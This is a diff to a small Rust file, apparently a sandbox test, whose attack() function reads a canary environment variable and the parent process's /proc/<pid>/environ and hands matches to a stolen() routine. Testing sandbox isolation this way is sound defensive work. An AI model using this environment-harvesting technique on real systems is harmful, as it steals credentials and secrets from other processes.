@@ -4,10 +4,13 @@
 // points: 0
 
 fn attack() {
-    for (name, value) in std::env::vars() {
-        eprintln!("{name}={value}");
+    if let Ok(secret) = std::env::var("CANARY_VARIABLE") {
+        stolen(&secret);
     }
     let parent = std::os::unix::process::parent_id();
     let environment = std::fs::read(format!("/proc/{parent}/environ")).unwrap_or_default();
-    eprintln!("{}", String::from_utf8_lossy(&environment));
+    let environment = String::from_utf8_lossy(&environment);
+    if ["CANARY_VARIABLE", "LAB_REPORT"].iter().any(|name| environment.contains(name)) {
+        stolen(&environment);
+    }
 }
